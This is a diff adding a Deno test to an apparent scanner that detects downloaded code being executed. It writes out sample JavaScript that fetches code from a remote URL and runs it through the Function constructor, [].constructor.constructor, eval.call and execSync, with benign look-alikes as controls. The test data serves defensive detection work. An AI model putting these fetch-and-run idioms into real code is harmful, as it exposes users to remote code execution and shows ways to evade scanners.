@@ -1238,6 +1238,31 @@ Deno.test("downloaded code handed with the function that runs it to a call that 
   }
 });
 
+Deno.test("downloaded code run through Function's constructor, call or apply, or a destructured dynamic import is run", () => {
+  const runs = downloadRuns;
+  const js = 'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
+  const ways = [
+    "const AsyncFunction = (async () => {}).constructor;\nawait new AsyncFunction(code)();\n",
+    "[].constructor.constructor(code)();\n",
+    "Function.prototype.constructor(code)();\n",
+    "eval.call(null, code);\n",
+    'const { execSync } = await import("node:child_process");\nexecSync(code);\n',
+  ];
+  for (const [i, way] of ways.entries()) {
+    const text = js + way;
+    assert.deepEqual(runs(`scripts/f${i}.mjs`, text), [text.split("\n").length - 1], way);
+  }
+  // A class's own constructor and a function's call() with the download run nothing.
+  const benign = [
+    "class Note { constructor(t) { this.t = t; } }\nconsole.log(new Note(code).t);\n",
+    "function show(t) { console.log(t); }\nshow.call(null, code);\n",
+    'const { readFileSync } = await import("node:fs");\nconsole.log(readFileSync("a.txt", "utf8"), code);\n',
+  ];
+  for (const [i, text] of benign.entries()) {
+    assert.deepEqual(runs(`scripts/g${i}.mjs`, js + text), [], text);
+  }
+});
+
 Deno.test("a download handed to a callback and run there is run: promise chains, stream events, response callbacks", () => {
   const runs = downloadRuns;
   const url = '"https://get.notes-cloud.net/a"';
